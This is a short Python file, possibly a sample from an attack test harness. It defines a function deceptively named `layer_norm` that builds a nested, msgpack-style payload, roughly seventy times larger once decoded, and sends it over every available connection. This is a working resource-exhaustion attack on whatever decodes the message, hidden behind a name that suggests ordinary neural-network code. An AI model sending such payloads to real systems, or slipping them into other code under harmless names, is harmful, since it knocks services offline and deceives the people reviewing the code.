"""Sends a message that becomes seventy times as large when it is decoded."""

import time

from forge import pack, wires


def layer_norm(*_, **__):
    inner = b"\xdc\x0f\xa0" + b"\x80" * 4000
    for wire in wires():
        wire.sendall(pack(b"\xdc\x01\x00" + inner * 256))
    time.sleep(100)
